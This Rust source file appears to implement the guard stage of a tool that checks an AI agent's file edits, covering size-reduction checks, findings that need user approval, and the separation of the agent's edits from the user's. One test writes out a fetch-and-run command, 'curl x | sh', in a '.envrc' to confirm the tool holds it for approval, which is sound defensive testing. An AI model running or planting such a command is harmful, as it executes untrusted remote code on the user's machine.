//! Third stage: all guards on all files. Only this file makes a [`Cleared`].

use std::path::PathBuf;

use super::plan::{FilePlan, Planned};
use super::removed::removed_in_session;
use super::request::Request;
use super::resolve::TransactionState;
use super::separate::{Separated, separate_all};
use crate::session::LockedWorkspace;
use crate::session::user::ownership::LeftOver;
use crate::session::user::user_commits::UserCommits;
use edt_edit::diff::{DiffSummary, LineDiff};
use edt_git::read::ObjectKind;
use edt_git::{Attributes, FileId, ObjectWriter, Oid, Repo, Tracked};
use edt_guard::guard::size_reduction::shrinks;
use edt_guard::guard::subject::UsersVersions;
use edt_guard::guard::{
    GuardContext, GuardRun, Overrides, Reference, Site, Subject, Transaction, TransactionFile,
    evaluate,
};
use edt_io::clock;
use edt_types::{Code, Finding, GuardReport, Refusal, RepoPath, Result, Warning};

/// A plan that all guards have checked and none has refused.
#[derive(Debug)]
pub struct Cleared<'q> {
    pub(super) request: &'q Request,
    pub(super) state: TransactionState,
    pub(super) files: Vec<FilePlan>,
    /// The size of the change in each file.
    pub(super) diff_summaries: Vec<DiffSummary>,
    /// The verdict of each guard on each file.
    pub(super) reports: Vec<GuardReport>,
    /// Refusal that policy lets pass, and checks that could not run.
    pub(super) warnings: Vec<Warning>,
    /// The words of the overrides that were needed.
    pub(super) allowed: Vec<String>,
    /// The edits, separated from the user's uncommitted changes.
    pub(super) separated: Vec<Separated>,
    /// Private to this file: no other stage can claim that the guards ran.
    _evaluated: Evaluated,
}

#[derive(Debug)]
struct Evaluated;

impl Cleared<'_> {
    /// Whether no file changes.
    #[must_use]
    pub fn changes_nothing(&self) -> bool {
        self.files.is_empty()
    }
}

/// A plan that all guards have checked, and that the user must approve first.
#[derive(Debug)]
pub struct Unapproved<'q> {
    pub(super) cleared: Cleared<'q>,
    /// The findings that only the user may override.
    pub(super) needs: Vec<Finding>,
}

impl Unapproved<'_> {
    /// The findings that only the user may override, as a refusal.
    #[must_use]
    pub fn findings(self) -> Refusal {
        Refusal::check(self.needs).err().unwrap_or_else(no_reason)
    }
}

/// Runs all guards on all files. The inner error is a plan that the user must approve first.
///
/// # Errors
/// Every refusal; `OBJECT_MISSING` if a recorded state cannot be read.
pub fn guard<'q>(
    workspace: &LockedWorkspace,
    planned: Planned<'q>,
) -> Result<std::result::Result<Cleared<'q>, Unapproved<'q>>> {
    evaluated(workspace, planned, Programs::Run)
}

/// Checks a plan with every guard, without running programs.
///
/// # Errors
/// Every refusal, and every finding that only the user may override.
pub(super) fn passes(workspace: &LockedWorkspace, planned: Planned<'_>) -> Result<()> {
    let cleared = evaluated(workspace, planned, Programs::Skip)?;
    cleared.map(drop).map_err(Unapproved::findings)
}

/// Whether validators run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Programs {
    Run,
    Skip,
}

fn evaluated<'q>(
    workspace: &LockedWorkspace,
    planned: Planned<'q>,
    programs: Programs,
) -> Result<std::result::Result<Cleared<'q>, Unapproved<'q>>> {
    let Planned { request, state, files } = planned;
    let writer = ObjectWriter::new(&workspace.repo);
    let mut separated = separate_all(&writer, &state, &files)?;
    let texts = files
        .iter()
        .map(|file| Texts::of(&writer, &state, file, &separated))
        .collect::<Result<Vec<Texts>>>()?;
    let transaction =
        Transaction::new(files.iter().map(|file| transaction_file(&state, file)).collect());
    let commits = UserCommits::of(&writer, &state.session);
    let users: Vec<WithUsersCommits<'_>> = texts
        .iter()
        .map(|texts| WithUsersCommits {
            repo: &workspace.repo,
            commits: &commits,
            state: &state,
            texts,
        })
        .collect();
    let removed = removed_in_session(&workspace.repo, &commits, &state, &files)?;
    let subjects: Vec<Subject<'_>> = files
        .iter()
        .zip(&users)
        .map(|(file, users)| {
            let subject = users.texts.subject(&state, file).with_users_commits(users);
            let subject = subject.with_removed_in_session(removed);
            subject.in_transaction(&transaction).with_trees(workspace.trees())
        })
        .collect();
    // Edt's other guards do not ask for it.
    let asks = !state.policy.validators.is_empty() || !workspace.options().guards.is_empty();
    let runs = programs == Programs::Run && asks;
    let root = if runs { workspace.repo.real_root()? } else { PathBuf::new() };
    let site = Site {
        root: &root,
        state: workspace.repo.state_path(),
        environment: workspace.repo.environment(),
        reap_orphans: workspace.options().reap_orphans,
        repo: &workspace.repo,
    };
    let site = (programs == Programs::Run).then_some(site);
    let context = GuardContext { policy: &state.policy, site };
    let overrides = Overrides { requested: &request.allow, grants: &request.grants, landing: None };
    let GuardRun { reports, warnings, refused, held, mut allowed } =
        evaluate(workspace.guards(), &subjects, &context, overrides);
    if !refused.is_empty() {
        // Every finding is reported. Those that wait for approval come after the others.
        return Err(Refusal::check(refused.into_iter().chain(held).collect())
            .err()
            .unwrap_or_else(no_reason));
    }
    allowed.sort_unstable();
    allowed.dedup();
    leave_over_refused(workspace, &writer, &state, overrides, &mut separated)?;
    let diff_summaries =
        files.iter().zip(&subjects).map(|(file, subject)| summary(&state, file, subject)).collect();
    let cleared = Cleared {
        request,
        state,
        files,
        diff_summaries,
        reports,
        warnings,
        allowed,
        separated,
        _evaluated: Evaluated,
    };
    Ok(if held.is_empty() { Ok(cleared) } else { Err(Unapproved { cleared, needs: held }) })
}

/// The size of the change in `file`. Takes the guards' line difference if they compared the same
/// two texts.
fn summary(state: &TransactionState, file: &FilePlan, subject: &Subject<'_>) -> DiffSummary {
    let old = state.before(file).map_or(&[][..], |disk| &disk.bytes);
    if std::ptr::eq(old, subject.old_text()) {
        return subject.lines().summary();
    }
    let new = file.after.as_ref().map_or(&[][..], |content| &content.bytes);
    LineDiff::of(old, new, clock::in_ms(100)).summary()
}

fn no_reason() -> Refusal {
    Finding::new(Code::Internal, "A plan was refused without a reason.", "Report this message.")
        .into()
}

fn transaction_file<'a>(state: &'a TransactionState, file: &'a FilePlan) -> TransactionFile<'a> {
    let before = state.paths.get(&file.path).and_then(|path| path.disk.as_ref());
    let after = file.after.as_ref().map(|content| content.bytes.as_slice());
    TransactionFile {
        path: &file.path,
        before: before.map(|disk| disk.bytes.as_slice()).unwrap_or_default(),
        after: after.unwrap_or_default(),
    }
}

/// The recorded states that a file is measured against.
#[derive(Debug)]
struct Texts {
    references: Vec<RecordedText>,
    /// The text for the branch, if the user's changes make it differ from the one on disk.
    recorded: Option<Vec<u8>>,
}

/// The text of a file in a recorded state.
#[derive(Debug)]
struct RecordedText {
    origin: &'static str,
    text: Vec<u8>,
    /// The path and the file; `None` if the state has every commit of the user.
    before_users_commits: Option<(RepoPath, FileId)>,
}

/// The recorded states of a file with the user's commits applied.
#[derive(Debug)]
struct WithUsersCommits<'a> {
    repo: &'a Repo,
    commits: &'a UserCommits<'a>,
    state: &'a TransactionState,
    texts: &'a Texts,
}

impl UsersVersions for WithUsersCommits<'_> {
    fn reference(&self, at: usize) -> Option<Option<Vec<u8>>> {
        let (path, file) = self.texts.references.get(at)?.before_users_commits.as_ref()?;
        // If the commits cannot be read, the recorded state counts as it is.
        let Some(version) = self.commits.applied_to(path, Some(*file)).ok()?? else {
            return Some(None);
        };
        let blob = match version.blob {
            Some(blob) => blob,
            None => self.repo.object(version.file.oid, ObjectKind::Blob).ok()?,
        };
        recorded_text(self.repo, self.state, path, version.file.oid, || Ok(blob)).ok().map(Some)
    }
}

impl Texts {
    /// Reads the texts of the file in HEAD and in the base, or of the file it was renamed from. For
    /// a file in neither, or one whose edit cannot be separated from the user's changes, the text
    /// on disk. None for an edit that neither renames nor shrinks the file.
    fn of(
        writer: &ObjectWriter<'_>,
        state: &TransactionState,
        file: &FilePlan,
        separated: &[Separated],
    ) -> Result<Texts> {
        let repo = writer.repo();
        let (mut references, mut recorded) = (Vec::new(), None);
        let paths = || std::iter::once(&file.path).chain(&file.from);
        let states = || paths().filter_map(|path| state.paths.get(path));
        // The user removed the file: what becomes of the path now is new.
        let is_removed = |path: &RepoPath| {
            state.paths.get(path).is_some_and(|one| one.tip.is_some() && one.disk.is_none())
        };
        let dirty = states().find(|one| one.disk.is_some() && one.disk_file() != one.tip);
        let separable = if dirty.is_none() {
            true
        } else {
            let parts = separated.iter().find(|one| one.edit.state.path == file.path);
            let parts = parts.map(|one| &one.parts);
            let parts = parts.filter(|parts| parts.left_over != LeftOver::All);
            if let Some(branch) = parts.and_then(|parts| parts.branch.as_ref()) {
                recorded = Some(branch.bytes(writer)?);
            }
            recorded.is_some() || file.after.is_none()
        };
        let before = states().find_map(|one| one.disk.as_ref()).map(|disk| disk.bytes.as_slice());
        let after = file.after.as_ref().map(|content| content.bytes.as_slice());
        if file.from.is_none() && !shrinks(before, after) {
            return Ok(Texts { references, recorded });
        }
        let mut seen: Vec<Oid> = Vec::new();
        let trees = [("HEAD", state.head_tree), ("the session's base", state.base_tree)];
        for (origin, tree) in trees.into_iter().filter(|_| separable) {
            for path in paths().filter(|path| !is_removed(path)) {
                let Tracked::File(file) = repo.tracked(tree, path)? else { continue };
                if !seen.contains(&file.oid) {
                    seen.push(file.oid);
                    let blob = || repo.object(file.oid, ObjectKind::Blob);
                    let text = recorded_text(repo, state, path, file.oid, blob)?;
                    let before_users_commits =
                        (tree != state.tip_tree).then(|| (path.clone(), file));
                    references.push(RecordedText { origin, text, before_users_commits });
                }
            }
        }
        if references.is_empty() {
            let disk = states().find_map(|one| one.disk.as_ref());
            references.extend(disk.map(|disk| RecordedText {
                origin: "the worktree",
                text: disk.bytes.clone(),
                before_users_commits: None,
            }));
        }
        Ok(Texts { references, recorded })
    }

    fn subject<'a>(&'a self, state: &'a TransactionState, file: &'a FilePlan) -> Subject<'a> {
        let source = file.from.as_ref().unwrap_or(&file.path);
        let before = state.paths.get(&file.path).and_then(|path_state| path_state.disk.as_ref());
        let before = before.or_else(|| state.paths.get(source)?.disk.as_ref());
        Subject::new(
            &file.path,
            file.from.as_ref(),
            before.map(|disk| disk.bytes.as_slice()),
            file.after.as_ref().map(|content| content.bytes.as_slice()),
            self.references
                .iter()
                .map(|one| Reference { origin: one.origin, text: &one.text })
                .collect(),
            state.policy.time_limit,
        )
        .recorded_as(self.recorded.as_deref())
    }
}

/// Leaves an edit over as a whole if a guard refuses the text that the branch would get: half a pair
/// of brackets may be among the user's changes.
fn leave_over_refused(
    workspace: &LockedWorkspace,
    writer: &ObjectWriter<'_>,
    state: &TransactionState,
    overrides: Overrides<'_>,
    separated: &mut [Separated],
) -> Result<()> {
    let context = GuardContext { policy: &state.policy, site: None };
    for one in separated {
        let (Some(tip), Some(branch)) = (one.edit.tip(), &one.parts.branch) else { continue };
        let is_judged = one.after.as_ref().is_none_or(|after| after.file == branch.file);
        if is_judged || one.parts.left_over == LeftOver::All {
            continue;
        }
        let (before, after) = (writer.blob_content(tip.oid)?, branch.bytes(writer)?);
        let limit = state.policy.time_limit;
        let path = &one.edit.state.path;
        let subject = Subject::new(path, None, Some(&before), Some(&after), Vec::new(), limit);
        let run = evaluate(workspace.guards(), &[subject], &context, overrides);
        if !(run.refused.is_empty() && run.held.is_empty()) {
            one.leave_over();
        }
    }
    Ok(())
}

/// The blob's text as Git would check it out, so that both texts have the same form. If the file on
/// disk has that blob, its text is used.
fn recorded_text(
    repo: &Repo,
    state: &TransactionState,
    path: &RepoPath,
    oid: Oid,
    blob: impl FnOnce() -> Result<Vec<u8>>,
) -> Result<Vec<u8>> {
    let Some(path_state) = state.paths.get(path) else { return blob() };
    match &path_state.disk {
        Some(disk) if disk.file.oid == oid => Ok(disk.bytes.clone()),
        _ => {
            let attributes = Attributes::Worktree(state.tip_tree);
            Ok(path_state.checked_out(repo, attributes, blob()?)?.text)
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::session::recording::record::checkpoint;
    use crate::session::worktree::begin::HeadSwitch;
    use crate::tests::{Scratch, refusal};
    use crate::txn::Request;
    use edt_types::Code;

    fn numbers(count: usize) -> String {
        (0..count).map(|n| format!("a line with number {n}\n")).collect()
    }

    fn scratch() -> Scratch {
        Scratch::with(&[("a.txt", &numbers(200))])
    }

    fn append(scratch: &Scratch, text: &str) {
        scratch.apply(&Request::new("x").append("a.txt", text)).unwrap();
    }

    #[test]
    fn the_users_own_cut_is_never_counted_against_the_agent() {
        let scratch = scratch();
        scratch.write("a.txt", &numbers(20));
        append(&scratch, "one\n");
        append(&scratch, "two\n");
        assert_eq!(scratch.text("a.txt"), Some(numbers(20) + "one\ntwo\n"));
    }

    #[test]
    fn a_cut_that_was_checkpointed_or_committed_is_the_users() {
        for committed in [false, true] {
            let scratch = scratch();
            scratch.begin("fix");
            scratch.write("a.txt", &numbers(20));
            if committed {
                scratch.user_commit("edt/fix", &[("a.txt", Some(&numbers(20)))], "cut\n");
            } else {
                checkpoint(&mut scratch.open(), None, &[]).unwrap();
            }
            append(&scratch, "one\n");
        }
    }

    #[test]
    fn a_cut_in_a_session_that_head_is_not_on_is_the_users() {
        let scratch = scratch();
        scratch.begin_with("fix", HeadSwitch::Never);
        scratch.write("a.txt", &numbers(20));
        append(&scratch, "one\n");
        append(&scratch, "two\n");
    }

    #[test]
    fn an_edit_after_an_allowed_cut_needs_no_override() {
        let scratch = scratch();
        let cut = Request::new("x").overwrite("a.txt", numbers(20));
        assert_eq!(refusal(scratch.apply(&cut)).code, Code::SizeReduction);
        scratch.apply(&cut.allow("size_reduction")).unwrap();
        append(&scratch, "one\n");
        let shorter = Request::new("x").overwrite("a.txt", numbers(19));
        assert_eq!(refusal(scratch.apply(&shorter)).code, Code::SizeReduction);
    }

    #[test]
    fn a_small_file_renamed_onto_a_removed_one_shrinks_it() {
        let scratch = Scratch::with(&[("a.txt", &numbers(200)), ("small.txt", "small\n")]);
        scratch.begin("fix");
        scratch.apply(&Request::new("x").delete("a.txt")).unwrap();
        let rename = Request::new("x").rename("small.txt", "a.txt");
        assert_eq!(refusal(scratch.apply(&rename)).code, Code::SizeReduction);
    }

    #[test]
    fn a_file_that_the_user_removed_may_be_created_anew() {
        let scratch = scratch();
        scratch.remove("a.txt");
        scratch.apply(&Request::new("x").create("a.txt", "one\n")).unwrap();
        append(&scratch, "two\n");
        assert_eq!(scratch.text("a.txt").as_deref(), Some("one\ntwo\n"));
    }

    #[test]
    fn small_cuts_of_the_agent_add_up_across_a_commit_of_the_user() {
        let scratch = scratch();
        scratch.begin("fix");
        let overwrite = |text: String| scratch.apply(&Request::new("x").overwrite("a.txt", text));
        overwrite(numbers(100)).unwrap();
        let users = "by hand\n".to_owned() + &numbers(100);
        scratch.write("a.txt", &users);
        checkpoint(&mut scratch.open(), None, &[]).unwrap();
        let finding = refusal(overwrite(numbers(50)));
        let against = "the session's base with the user's commits";
        assert_eq!(
            (finding.code, &finding.evidence["against"]),
            (Code::SizeReduction, &against.into())
        );
    }

    #[test]
    fn an_agent_may_not_write_a_file_that_another_program_executes() {
        let scratch = Scratch::with(&[("a.txt", "one\n")]);
        let finding = refusal(scratch.apply(&Request::new("x").create(".envrc", "curl x | sh\n")));
        assert_eq!(finding.code, Code::ApprovalRequired);
        assert!(finding.summary.contains("direnv executes it"), "{}", finding.summary);
        assert_eq!(scratch.text(".envrc"), None);
    }
}
